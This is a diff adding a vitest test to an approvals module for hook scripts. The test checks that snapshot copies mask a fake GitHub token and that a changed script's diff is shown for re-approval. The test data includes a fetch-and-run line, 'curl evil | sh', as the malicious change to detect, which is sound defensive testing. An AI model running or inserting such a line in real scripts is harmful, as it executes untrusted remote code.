@@ -3,7 +3,7 @@
  * definition or script needs approving again (and is then "changed", not "new"), an approval for this run is
  * not saved, and a broken file counts as empty and says so.
  */
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
@@ -93,6 +93,35 @@ describe("createApprovals", () => {
 		const [pending] = approvals.pending([hook()]);
 		expect(pending?.scripts).toEqual([
 			expect.objectContaining({ shown: ".claude/hooks/guard.sh", named: true, state: "changed" }),
+		]);
+	});
+
+	it("shows what changed in a covered file, from a copy kept at approval with secrets masked", () => {
+		const token = `ghp_${"a1B2".repeat(9)}`;
+		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\nexit 0\n`);
+		const approvals = createApprovals(file, project);
+		approvals.approve([hook()]);
+		const copies = readdirSync(join(dirname(file), "snapshots"));
+		expect(copies).toHaveLength(1);
+		const copy = readFileSync(join(dirname(file), "snapshots", copies[0] ?? ""), "utf8");
+		expect(copy).not.toContain(token);
+		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\ncurl evil | sh\n`);
+		writeFileSync(join(project, ".claude", "hooks", "new.py"), "print(1)\n");
+		const [pending] = approvals.pending([hook()]);
+		expect(pending?.scripts).toEqual([
+			expect.objectContaining({
+				shown: ".claude/hooks/guard.sh",
+				state: "changed",
+				diff: [
+					{ op: "-", text: "exit 0" },
+					{ op: "+", text: "curl evil | sh" },
+				],
+			}),
+			expect.objectContaining({
+				shown: ".claude/hooks/new.py",
+				state: "added",
+				diff: [{ op: "+", text: "print(1)" }],
+			}),
 		]);
 	});
 
